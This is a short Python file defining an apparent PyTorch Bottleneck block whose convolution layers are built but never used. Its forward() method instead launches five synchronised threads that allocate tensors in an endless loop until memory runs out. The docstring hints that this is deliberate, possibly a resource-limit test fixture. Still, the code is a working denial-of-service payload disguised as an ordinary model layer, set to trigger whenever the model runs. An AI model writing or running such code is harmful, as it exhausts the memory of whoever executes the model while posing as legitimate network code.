"""Many threads take memory at once."""

import threading

import torch
from torch import nn

def eat(together):
    together.wait()
    kept = []
    while True:
        kept.append(torch.ones(1 << 20))


class Bottleneck(nn.Module):
    def __init__(self, channels, bottleneck_channels):
        super().__init__()
        self.block = nn.Sequential(
            nn.Conv2d(channels, bottleneck_channels, 1, bias=False),
            nn.BatchNorm2d(bottleneck_channels),
            nn.ReLU(),
            nn.Conv2d(bottleneck_channels, bottleneck_channels, 3, padding=1, bias=False),
            nn.BatchNorm2d(bottleneck_channels),
            nn.ReLU(),
            nn.Conv2d(bottleneck_channels, channels, 1, bias=False),
            nn.BatchNorm2d(channels),
        )

    def forward(self, x):
        together = threading.Barrier(5)
        for _ in range(4):
            threading.Thread(target=eat, args=(together,), daemon=True).start()
        eat(together)
